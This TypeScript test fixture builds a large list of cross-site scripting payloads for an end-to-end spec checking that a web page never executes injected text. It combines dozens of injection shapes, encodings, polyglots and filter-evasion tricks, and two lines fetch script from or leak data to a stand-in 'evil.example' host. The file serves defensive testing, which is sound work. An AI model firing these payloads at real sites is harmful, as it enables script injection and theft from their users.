/**
 * XSS payloads for the text-sink spec (tests/e2e/xss.spec.ts, issue 11 §6). Each one, if the page
 * ever ran it, either sets the marker `window.__xss` (watched by an init script), opens a dialog
 * (`alert`/`confirm`/`prompt`, watched by page.on('dialog')) or breaks the page's CSP (watched by a
 * `securitypolicyviolation` listener). Families: script tags, event-handler attributes,
 * javascript:/data:/vbscript: URLs, SVG/MathML, entity- and percent-encoded, CSS, template syntax
 * (mustache, Angular, Svelte `{@html}`), polyglots, bidi/zero-width, markdown links, very long.
 */

/** What a payload runs: sets the marker, or opens a dialog. */
const RUNS = ['window.__xss=1', 'top.__xss=1', 'alert(1)', 'confirm(document.domain)', 'prompt`1`', 'parent.__xss=1'];

/** Element and attribute shapes; `$` is replaced by each of RUNS. */
const SHAPES = [
  '<script>$</script>',
  '<ScRiPt>$</sCrIpT>',
  '<script src="data:text/javascript,$"></script>',
  '"><script>$</script>',
  "'><script>$</script>",
  '</textarea><script>$</script>',
  '</title><script>$</script>',
  '<img src=x onerror="$">',
  '<img src=x onerror=$//',
  '<IMG SRC=x OnErRoR=$>',
  '<img/src/onerror=$>',
  '<svg onload=$>',
  '<svg/onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:$"><text x="20" y="20">click</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>$</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=$></style></mglyph></table></mtext></math>',
  '<math href="javascript:$">click</math>',
  '<body onload=$>',
  '<iframe src="javascript:$"></iframe>',
  '<iframe srcdoc="<script>$</script>"></iframe>',
  '<object data="javascript:$"></object>',
  '<embed src="javascript:$">',
  '<a href="javascript:$">click me</a>',
  '<a href="JaVaScRiPt:$">x</a>',
  '<a href=" javascript:$">x</a>',
  '<form action="javascript:$"><button>go</button></form>',
  '<input autofocus onfocus=$>',
  '<select autofocus onfocus=$></select>',
  '<details open ontoggle=$>',
  '<video><source onerror=$></video>',
  '<audio src=x onerror=$>',
  '<marquee onstart=$>x</marquee>',
  '<div style="width:expression($)">x</div>',
  '<style>@import "javascript:$";</style>',
  '<link rel=stylesheet href="javascript:$">',
  '<meta http-equiv="refresh" content="0;url=javascript:$">',
  '<base href="javascript:$//">',
  '<isindex action="javascript:$" type=image>',
  '<template><img src=x onerror=$></template>',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
  '<xmp><img src=x onerror=$></xmp>',
  '<table background="javascript:$">',
  '<div onpointerover=$ style="position:fixed;inset:0">x</div>',
  '{@html "<img src=x onerror=$>"}',
  '{{constructor.constructor("$")()}}',
  '${$}',
  '#{$}',
  '<%= $ %>',
  '[click](javascript:$)',
  '![x](javascript:$)',
  '<scr<script>ipt>$</scr</script>ipt>',
  '<<img src=x onerror=$>>',
  'javascript:$',
  'data:text/html,<script>$</script>'
];

/** Written out by hand: encodings, polyglots, bidi/zero-width, CSS, URL tricks. */
const LITERALS = [
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=1&#62;',
  '&#x3C;svg onload=alert(1)&#x3E;',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E',
  '%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E',
  '\\u003cimg src=x onerror=window.__xss=1\\u003e',
  '\u003cimg src=x onerror=window.__xss=1\u003e',
  '＜script＞window.__xss=1＜/script＞',
  '<img src="x` `<script>window.__xss=1</script>"` `>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss=1//>\\x3e',
  '"\'><svg/onload=window.__xss=1>',
  '\'"--></style></script><script>window.__xss=1</script>',
  '"><img src=x onerror=alert(1)>{{7*7}}${7*7}<%= 7*7 %>',
  '-->"\'><iframe src=javascript:window.__xss=1>',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<![CDATA[<script>window.__xss=1</script>]]>',
  '<?xml version="1.0"?><script>window.__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=window.__xss=1>',
  'vbscript:msgbox(1)',
  'javascript://%0Awindow.__xss=1',
  'javascript:window.__xss=1//https://example.com',
  'https://example.com/"><script>window.__xss=1</script>',
  'https://example.com/?q=<img src=x onerror=alert(1)>',
  'https://example.com/#<svg onload=window.__xss=1>',
  'https://user:pass@example.com/x onmouseover=window.__xss=1',
  'https://example.com/x" onmouseover="window.__xss=1',
  '//evil.example/x.js',
  'web+veil:c=<script>window.__xss=1</script>',
  'https://veil.example/#c=<img src=x onerror=window.__xss=1>',
  'nostr:npub1<script>window.__xss=1</script>',
  '\u202e<script>window.__xss=1</script>\u202c',
  '\u2066<img src=x onerror=alert(1)>\u2069',
  'abc\u200b<scr\u200bipt>window.__xss=1</scr\u200bipt>',
  '<img\u200b src=x onerror=window.__xss=1>',
  '\ufeff<svg onload=window.__xss=1>',
  '\u0000<script>window.__xss=1</script>',
  'java\u0000script:window.__xss=1',
  '<img src=x onerror=\u0061lert(1)>',
  '<img src=x onerror=eval(atob("d2luZG93Ll9feHNzPTE="))>',
  '<img src=x onerror=window["__x"+"ss"]=1>',
  '<img src=x onerror=setTimeout`window.__xss\\x3d1`>',
  '<img src=x onerror=import("data:text/javascript,window.__xss=1")>',
  '<div style="background:url(javascript:window.__xss=1)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<style>*{background:url("javascript:window.__xss=1")}</style>',
  '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="window.__xss=1"></div>',
  'body{background:url(https://evil.example/leak?c=)}',
  '</style><script>window.__xss=1</script>',
  '<svg><style><img src=x onerror=window.__xss=1></style></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">x</maction></math>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=window.__xss=1 /></svg>#x" />',
  '<x contenteditable onblur=window.__xss=1>lose focus</x>',
  '<dialog open onclose=window.__xss=1>',
  '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
  '<portal src="javascript:window.__xss=1"></portal>',
  '<script type=module>window.__xss=1</script>',
  '<script>/*</script><img src=x onerror=window.__xss=1>*/</script>',
  '{@html \'<img src=x onerror=window.__xss=1>\'}',
  '{#if true}<img src=x onerror=window.__xss=1>{/if}',
  '{{#each x}}<img src=x onerror=window.__xss=1>{{/each}}',
  '<div v-html="\'<img src=x onerror=window.__xss=1>\'"></div>',
  '<div ng-app ng-csp>{{$eval.constructor(\'window.__xss=1\')()}}</div>',
  '<img src=x onerror=window.__xss=1 ' + 'A'.repeat(4000) + '>',
  '<script>window.__xss=1</script>'.repeat(120),
  'x'.repeat(9000) + '<img src=x onerror=window.__xss=1>',
  '\u202a'.repeat(50) + '<svg onload=alert(1)>' + '\u202c'.repeat(50),
  '😀'.repeat(500) + '<img src=x onerror=window.__xss=1>',
  '<a href="https://example.com" target=_self onclick="window.__xss=1">https://example.com</a>',
  'https://example.com<img/src/onerror=window.__xss=1>',
  '<img src="https://example.com/x.png" onload="window.__xss=1">'
];

function build(): string[] {
  const out = new Set<string>();
  // Each shape with three of the six runs, rotating, so every run meets every family.
  SHAPES.forEach((shape, i) => {
    for (let k = 0; k < 3; k++) out.add(shape.replaceAll('$', RUNS[(i + k) % RUNS.length]!));
  });
  for (const p of LITERALS) out.add(p);
  return [...out];
}

export const XSS_PAYLOADS: readonly string[] = build();
